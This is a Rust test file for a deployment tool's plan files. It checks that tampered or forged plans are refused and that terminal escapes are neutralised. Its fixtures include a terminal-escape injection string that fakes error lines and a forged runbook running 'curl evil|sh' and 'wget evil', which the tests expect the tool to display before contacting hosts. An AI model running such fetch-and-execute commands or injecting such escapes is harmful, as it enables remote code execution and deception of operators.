//! `holdfast plan`, `show FILE`, `apply`: what is refused, and how a plan is shown. The rest needs hosts.

use insta::assert_snapshot;

use crate::support::pty::Pty;
use crate::support::sandbox::Sandbox;
use holdfast::plan_file::PlanFile;
use holdfast::plan_file::envelope::Key;

fn fixture(name: &str) -> Vec<u8> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/plans/");
    std::fs::read(format!("{folder}{name}")).unwrap()
}

/// A project with this file.
fn project(bytes: &[u8]) -> Sandbox {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project().join("x.plan"), bytes).unwrap();
    sandbox.file(
        "inventory/hosts.yaml",
        "hosts:\n  web-1: { address: 127.0.0.1, port: 1 }\n  web-2: { address: 127.0.0.1, port: 1 }\n  db: {}\n",
    );
    sandbox
}

/// How old a plan is differs from day to day.
fn ageless(said: &str) -> String {
    let ageless = said.lines().map(|line| match line.split_once(" UTC, ") {
        Some((before, after)) => {
            let (_, after) = after.split_once(", with ").unwrap_or(("", after));
            format!("{before} UTC, [AGE], with {after}")
        }
        None => line.to_owned(),
    });
    ageless.collect::<Vec<_>>().join("\n")
}

#[test]
fn a_saved_plan_is_shown_as_its_dry_run_was() {
    let sandbox = project(&fixture("v1-include.plan"));
    assert_snapshot!(ageless(&sandbox.run(&["show", "x.plan"])));
    let json = sandbox.run(&["show", "x.plan", "--format", "json"]);
    for word in ["\"plan_opened\"", "\"sha256\":\"b4a6ed", "\"host_planned\""] {
        assert!(json.contains(word), "{json}");
    }
    let one = sandbox.run(&["show", "x.plan", "--host", "web-2"]);
    assert!(one.contains("web-2 ·") && !one.contains("web-1"), "{one}");
    let none = sandbox.run(&["show", "x.plan", "--host", "web-3"]);
    assert!(none.starts_with("status: 1"), "{none}");
    assert!(none.contains("has no plan for `web-3`"), "{none}");
    assert!(none.contains("did you mean `web-1`?"), "{none}");
}

#[test]
fn every_fixture_is_shown() {
    for (name, word) in [
        ("v1-include.plan", "asks: Is the app off?"),
        ("v1-forty.plan", "56 changes are due"),
        ("v1-data.plan", "data cloudflare: 22 entries"),
    ] {
        let said = project(&fixture(name)).run(&["show", "x.plan", "-v"]);
        assert!(said.starts_with("status: 0"), "{said}");
        assert!(said.contains(word), "{name} does not say {word}:\n{said}");
    }
}

#[track_caller]
fn refused(bytes: &[u8], why: &str) {
    let sandbox = project(bytes);
    for verb in [&["show", "x.plan"][..], &["apply", "x.plan", "--yes"]] {
        let said = sandbox.run(verb);
        assert!(said.starts_with("status: 1"), "{verb:?}: {said}");
        assert!(said.contains(why), "{verb:?} does not say {why}: {said}");
    }
}

#[test]
fn a_file_that_is_not_as_it_was_written_is_refused() {
    let whole = fixture("v1-include.plan");
    let text = String::from_utf8(whole.clone()).unwrap();
    refused(
        text.replace("Cron knows the app", "Cron knows the spy")
            .as_bytes(),
        "it was changed after it was made",
    );
    refused(&whole[..whole.len() - 7], "it is not whole");
    refused(&whole[..40], "its first line is damaged");
    refused(
        text.replacen("holdfast-plan 1 ", "holdfast-plan 2 ", 1)
            .as_bytes(),
        "its format is 2, and this version of Holdfast reads up to 1",
    );
    // A file that is no plan may be a mistyped run, so each verb says it in its own words.
    let sandbox = project(b"name: app\nsteps: []\n");
    for (verb, why) in [
        (
            &["show", "x.plan"][..],
            "x.plan is no saved plan, nor a run",
        ),
        (
            &["apply", "x.plan", "--yes"],
            "it is no plan: it does not begin with `holdfast-plan`",
        ),
    ] {
        let said = sandbox.run(verb);
        assert!(
            said.starts_with("status: 1") && said.contains(why),
            "{said}"
        );
    }
}

#[test]
fn a_forgery_with_a_right_digest_is_refused_by_whose_key_it_names() {
    let sandbox = project(b"");
    let key = [3_u8; 32];
    std::fs::create_dir_all(sandbox.state()).unwrap();
    std::fs::write(sandbox.state().join("plan.key"), key).unwrap();
    let mut plan = PlanFile::open(&fixture("v1-include.plan"), None)
        .unwrap()
        .plan;
    let ours = plan.to_bytes(Some(&Key::new(key))).unwrap();
    let path = sandbox.project().join("x.plan");
    std::fs::write(&path, &ours).unwrap();
    let said = sandbox.run(&["show", "x.plan"]);
    assert!(
        said.starts_with("status: 0") && !said.contains("not sealed"),
        "{said}"
    );
    // The digest of another plan, with the seal of this one.
    plan.runbook.runbooks[0].text.push_str("\n# more\n");
    let forged = plan.to_bytes(None).unwrap();
    let line = |bytes: &[u8]| {
        let end = bytes.iter().position(|b| *b == b'\n').unwrap();
        String::from_utf8(bytes[..end].to_vec()).unwrap()
    };
    let seal = line(&ours).rsplit_once(' ').unwrap().1.to_owned();
    let head = line(&forged);
    let body = &forged[head.len()..];
    std::fs::write(&path, [format!("{head} {seal}").as_bytes(), body].concat()).unwrap();
    let said = sandbox.run(&["apply", "x.plan", "--yes"]);
    assert!(
        said.starts_with("status: 1") && said.contains("it was forged"),
        "{said}"
    );
}

#[test]
fn a_plan_of_somebody_else_needs_eyes_or_its_digest() {
    let sandbox = project(&fixture("v1-include.plan"));
    for flag in ["--yes", "--unattended"] {
        let said = sandbox.run(&["apply", "x.plan", flag]);
        assert!(said.starts_with("status: 9"), "{said}");
        assert!(said.contains("--sha256"), "{said}");
    }
    let other = "0".repeat(64);
    let said = sandbox.run(&["apply", "x.plan", "--yes", "--sha256", &other]);
    assert!(
        said.starts_with("status: 1") && said.contains("its own is b4a6"),
        "{said}"
    );
    let own = "b4a6edff6a9db4f492d40a9df307d66479b7aeee66f7a14ec1534af9003b89ac";
    // From here on it is about the hosts, which nobody answers for.
    let said = sandbox.run(&[
        "apply",
        "x.plan",
        "--yes",
        "--sha256",
        own,
        "--answer",
        "ready=yes",
    ]);
    assert!(said.starts_with("status: 4"), "{said}");
    let said = sandbox.run(&["apply", "x.plan"]);
    assert!(
        said.starts_with("status: 1") && said.contains("no terminal"),
        "{said}"
    );
}

#[test]
fn hosts_are_those_of_the_plan_that_the_inventory_still_has() {
    let sandbox = project(&fixture("v1-include.plan"));
    let own = "b4a6edff6a9db4f492d40a9df307d66479b7aeee66f7a14ec1534af9003b89ac";
    let apply = |words: &[&str]| {
        let words = [&["apply", "x.plan", "--yes", "--sha256", own], words].concat();
        sandbox.run(&words)
    };
    let said = apply(&["-l", "db"]);
    assert!(said.starts_with("status: 1"), "{said}");
    assert!(
        said.contains("has no plan for what --limit names"),
        "{said}"
    );
    let said = apply(&["-l", "db,web-1"]);
    assert!(
        said.contains("has no plan for db: nothing is done there"),
        "{said}"
    );
    let said = apply(&["--answer", "redy=yes"]);
    assert!(
        said.contains("asks no question with the id `redy`"),
        "{said}"
    );
    sandbox.file("inventory/hosts.yaml", "hosts:\n  web-1: {}\n");
    let said = apply(&[]);
    assert!(said.starts_with("status: 1"), "{said}");
    assert!(
        said.contains("web-2 has a plan but is no longer in the inventory"),
        "{said}"
    );
    assert!(said.contains("name the others with --limit"), "{said}");
    // As it says: from here on it is about a host that nobody answers for.
    sandbox.file(
        "inventory/hosts.yaml",
        "hosts:\n  web-1: { address: 127.0.0.1, port: 1 }\n",
    );
    assert!(apply(&["-l", "web-1"]).starts_with("status: 4"));
}

#[test]
fn a_file_that_is_there_is_not_overwritten_and_a_folder_that_is_not_is_said_before_any_host_is_asked()
 {
    let sandbox = project(b"precious");
    sandbox.file("runbooks/note.yaml", "name: note\nsummary: x\nsteps:\n  - name: x\n    file: { path: /etc/hf-x, content: \"\" }\n");
    let said = sandbox.run(&["plan", "note", "--out", "x.plan"]);
    assert!(
        said.starts_with("status: 1") && said.contains("--force"),
        "{said}"
    );
    assert!(!said.contains("Dry run"), "{said}");
    let text = std::fs::read(sandbox.project().join("x.plan")).unwrap();
    assert_eq!(text, b"precious");
    let said = sandbox.run(&["plan", "note", "--out", "nowhere/x.plan"]);
    assert!(
        said.starts_with("status: 1") && said.contains("cannot write nowhere/x.plan"),
        "{said}"
    );
    // Nobody can be reached: there is no plan to save.
    let said = sandbox.run(&["plan", "note", "--out", "new.plan", "-l", "web-1"]);
    assert!(
        said.starts_with("status: 4") && said.contains("no plan was saved"),
        "{said}"
    );
    let left: Vec<_> = std::fs::read_dir(sandbox.project())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(
        !left
            .iter()
            .any(|name| name.to_str().unwrap().starts_with(".holdfast-plan")),
        "{left:?}"
    );
}

/// What a terminal could act on: control characters but the line break, and those that turn the direction of a text.
fn acts(text: &str) -> Vec<char> {
    let acts = |c: &char| (c.is_control() && *c != '\n') || ('\u{202a}'..='\u{202e}').contains(c);
    text.chars().filter(acts).collect()
}

/// A file with this body behind a right envelope without a seal.
fn enveloped(body: &str) -> Vec<u8> {
    let digest = holdfast::probe::Digest::of(body.as_bytes());
    format!(
        "holdfast-plan 1 sha256={digest} bytes={}\n{body}",
        body.len()
    )
    .into_bytes()
}

const HOSTILE: &str = "9\u{1b}]0;pwn\u{7}\u{1b}[31m\u{202e}\u{9b}2J\nerror: fake\r\n  hint: fake";

#[test]
fn nothing_that_stands_in_a_plan_reaches_the_terminal_as_it_is() {
    let hostile = serde_json::to_string(HOSTILE).unwrap();
    let strange = format!(r#"{{"made":{{"version":{hostile}}},"terms":"no"}}"#);
    let mut plan = PlanFile::open(&fixture("v1-include.plan"), None)
        .unwrap()
        .plan;
    plan.hosts[0].name = format!("web{HOSTILE}");
    plan.runbook.runbooks[0].path = HOSTILE.to_owned();
    plan.runbook.runbooks[0].text.push_str("\noops: [");
    // Its host has no plan then, so that is said instead of its name.
    let renamed = plan.to_bytes(None).unwrap();
    for told in &mut plan.told {
        if let holdfast::event::EventKind::HostPlanned { plan } = &mut told.kind
            && plan.host == "web-1"
        {
            plan.host = format!("web{HOSTILE}");
        }
    }
    let all = plan.to_bytes(None).unwrap();
    plan.runbook = PlanFile::open(&fixture("v1-include.plan"), None)
        .unwrap()
        .plan
        .runbook;
    let names = plan.to_bytes(None).unwrap();
    let files = [
        (enveloped(&strange), "it was made by Holdfast 9"),
        (renamed, "it does not tell of the dry run"),
        (all, "oops"),
        (names, "web"),
    ];
    for (bytes, word) in files {
        let sandbox = project(&bytes);
        let digest = PlanFile::open(&bytes, None)
            .map_or(String::new(), |opened| opened.header.digest.to_string());
        for words in [
            &["show", "x.plan"][..],
            &["show", "x.plan", "--host", "nosuch"],
            &["apply", "x.plan", "--yes", "--sha256", &digest],
            &["apply", "x.plan", "--yes", "--sha256", &digest, "-l", "db"],
        ] {
            let output = sandbox.output(words);
            let said = [output.stdout, output.stderr].concat();
            let said = String::from_utf8(said).expect("UTF-8");
            assert_eq!(acts(&said), [], "{words:?}: {said:?}");
            let forged = |line: &str| {
                let line = line.trim_start();
                line.starts_with("error: fake") || line.starts_with("hint: fake")
            };
            assert!(!said.lines().any(forged), "{words:?}: {said}");
            assert!(!said.is_empty(), "{words:?} says nothing");
            if words.len() == 2 {
                assert!(said.contains(word), "{words:?} does not say {word}: {said}");
            }
        }
    }
}

#[test]
fn what_runs_when_a_plan_is_verified_is_shown_and_a_plan_that_shows_nothing_is_refused() {
    let mut plan = PlanFile::open(&fixture("v1-include.plan"), None)
        .unwrap()
        .plan;
    let sandbox = project(&plan.to_bytes(None).unwrap());
    let line = "verifies web-1, web-2 by running: test -e /etc/hf-marker";
    assert!(sandbox.run(&["show", "x.plan"]).contains(line));
    let json = sandbox.run(&["show", "x.plan", "--format", "json"]);
    assert!(
        json.contains(r#""argv":["test","-e","/etc/hf-marker"]"#),
        "{json}"
    );
    // Of a plan of our own it is a detail.
    let key = [3_u8; 32];
    std::fs::create_dir_all(sandbox.state()).unwrap();
    std::fs::write(sandbox.state().join("plan.key"), key).unwrap();
    let path = sandbox.project().join("x.plan");
    std::fs::write(&path, plan.to_bytes(Some(&Key::new(key))).unwrap()).unwrap();
    assert!(!sandbox.run(&["show", "x.plan"]).contains("by running"));
    assert!(sandbox.run(&["show", "x.plan", "-v"]).contains(line));
    plan.told.truncate(1);
    refused(&plan.to_bytes(None).unwrap(), "nobody can see what it does");
    plan.told.clear();
    refused(&plan.to_bytes(None).unwrap(), "nobody can see what it does");
}

#[test]
fn a_key_that_is_damaged_is_said() {
    let sandbox = project(&fixture("v1-include.plan"));
    assert!(
        !sandbox
            .run(&["show", "x.plan"])
            .contains("your key for plans")
    );
    std::fs::create_dir_all(sandbox.state()).unwrap();
    std::fs::write(sandbox.state().join("plan.key"), "short").unwrap();
    let said = sandbox.run(&["show", "x.plan"]);
    assert!(said.starts_with("status: 0"), "{said}");
    assert!(
        said.contains("warning: your key for plans cannot be used")
            && said.contains("does not hold 32 bytes"),
        "{said}"
    );
}

/// Reading a pipe or a device may never come to an end.
#[test]
fn a_plan_is_read_from_a_regular_file_alone() {
    let sandbox = project(b"");
    let pipe = sandbox.project().join("pipe");
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, rustix::fs::Mode::RUSR).unwrap();
    for (words, why) in [
        (["show", "pipe"], "pipe is no saved plan, nor a run"),
        (["apply", "pipe"], "cannot read pipe: it is no regular file"),
        (
            ["apply", "/dev/zero"],
            "cannot read /dev/zero: it is no regular file",
        ),
        (["apply", "."], "cannot read .: it is no regular file"),
    ] {
        let said = sandbox.run(
            &[
                &words[..],
                &["--sha256", "0", "--yes"][..if words[0] == "show" { 0 } else { 3 }],
            ]
            .concat(),
        );
        assert!(
            said.starts_with("status: 1") && said.contains(why),
            "{words:?}: {said}"
        );
    }
}

/// A plan is renamed to its place, so what is there would be gone: that may be a file and nothing else.
#[test]
fn only_a_regular_file_is_replaced_by_a_plan() {
    use std::os::unix::fs::symlink;
    let sandbox = project(b"precious");
    sandbox.file("runbooks/note.yaml", "name: note\nsummary: x\nsteps:\n  - name: x\n    file: { path: /etc/hf-x, content: \"\" }\n");
    sandbox.file(
        "inventory/hosts.yaml",
        "hosts:\n  here: { connection: local }\n",
    );
    let project = sandbox.project();
    symlink("x.plan", project.join("link")).unwrap();
    symlink("nowhere", project.join("dangling")).unwrap();
    std::fs::create_dir(project.join("folder")).unwrap();
    let pipe = project.join("pipe");
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, rustix::fs::Mode::RUSR).unwrap();
    for (name, why) in [
        ("link", "link is a symbolic link"),
        ("dangling", "dangling is a symbolic link"),
        ("folder", "folder is no regular file"),
        ("pipe", "pipe is no regular file"),
        ("/dev/null", "/dev/null is no regular file"),
    ] {
        for force in [&[][..], &["--force"]] {
            let said = sandbox.run(&[&["plan", "note", "--out", name], force].concat());
            assert!(
                said.starts_with("status: 1") && said.contains(why),
                "{name} {force:?}: {said}"
            );
            assert!(!said.contains("--force puts"), "{said}");
        }
    }
    assert_eq!(std::fs::read(project.join("link")).unwrap(), b"precious");
    assert!(project.join("dangling").is_symlink());
    let said = sandbox.run(&["plan", "note", "--out", "x.plan", "--force"]);
    assert!(said.starts_with("status: 0"), "{said}");
    assert!(
        std::fs::read(project.join("link"))
            .unwrap()
            .starts_with(b"holdfast-plan 1 ")
    );
}

/// The fixture with another runbook, as somebody forges it who says of the hosts what suits him: right but for the seal.
fn forged(from: &str, to: &str) -> PlanFile {
    let mut plan = PlanFile::open(&fixture("v1-include.plan"), None)
        .unwrap()
        .plan;
    let text = &mut plan.runbook.runbooks[0].text;
    assert!(text.contains(from), "{text}");
    *text = text.replacen(from, to, 1);
    plan
}

const HIDDEN: &str = "verify:\n  - name: Never then\n    when: facts.os.version == \"0\"\n    command: [sh, -c, \"curl evil|sh\"]\n";

#[test]
fn no_program_of_a_plan_that_is_not_ours_is_hidden_by_what_it_says_of_its_hosts() {
    let mut plan = forged("verify:\n", HIDDEN);
    let step = "  - name: Nothing is due\n    when: facts.init == 'none'\n    for_each: [\"wget evil\"]\n    command: { argv: [sh, -c, \"{{ item }}\"], unless: [spy, \"{{ inputs.word }}\"], undo: [gone] }\n  - name: Nothing is due here\n    file: { path: /etc/x, content: x, validate: [judge, \"{}\"] }\nverify:\n";
    for (at, from) in [(0, "verify:\n"), (1, "  - id: conf\n")] {
        let text = &mut plan.runbook.runbooks[at].text;
        let to = step.replace("verify:\n", from);
        let to = if at == 0 {
            to.replace("inputs.word", "host.name")
        } else {
            to
        };
        *text = text.replacen(from, &to, 1);
    }
    let bytes = plan.to_bytes(None).unwrap();
    let sandbox = project(&bytes);
    let digest = PlanFile::open(&bytes, None).unwrap().header.digest;
    let apply = [
        "apply",
        "x.plan",
        "--yes",
        "--sha256",
        digest.as_str(),
        "--answer",
        "ready=yes",
    ];
    for words in [
        &["show", "x.plan"][..],
        &["show", "x.plan", "-q"],
        &["show", "x.plan", "--host", "web-1"],
        &apply,
    ] {
        let said = sandbox.run(words);
        for line in [
            "outer, Never then (command): sh -c 'curl evil|sh'",
            "outer, Nothing is due (argv): sh -c '{{ item }}' for each of 'wget evil'",
            "outer, Nothing is due (unless): spy '{{ host.name }}'",
            "app, Nothing is due (unless): spy '{{ inputs.word }}'",
            "app, Nothing is due (undo): gone",
            "app, Nothing is due here (validate): judge '{}'",
            "outer, A second command is run (argv): touch /etc/hf-marker",
        ] {
            assert!(said.contains(line), "{words:?} does not say {line}: {said}");
        }
        let hosts = said.find("127.0.0.1").unwrap_or(said.len());
        assert!(
            said.find("curl evil").unwrap() < hosts,
            "before any host is asked: {said}"
        );
    }
    let json = sandbox.run(&["show", "x.plan", "--format", "json"]);
    assert!(
        json.contains(r#""argv":["sh","-c","curl evil|sh"]"#),
        "{json}"
    );
}

/// Guards run when a host is looked at, so a person must have said yes before that.
#[test]
fn a_plan_that_is_not_ours_asks_before_any_host_is_asked() {
    for (answer, asked, exit) in [("n", false, 0), ("y", true, 4)] {
        let sandbox = project(&forged("verify:\n", HIDDEN).to_bytes(None).unwrap());
        let mut pty = Pty::start(&sandbox.command(&["apply", "x.plan"]), (50, 200));
        let came = pty.expect("Is it what was reviewed?");
        assert!(came.contains("sh -c 'curl evil|sh'"), "{came}");
        assert!(!came.contains("Connection refused"), "{came}");
        pty.write(&format!("{answer}\n"));
        let (status, text) = pty.end();
        assert_eq!(status, exit, "{text}");
        assert_eq!(text.contains("refused"), asked, "{text}");
    }
}
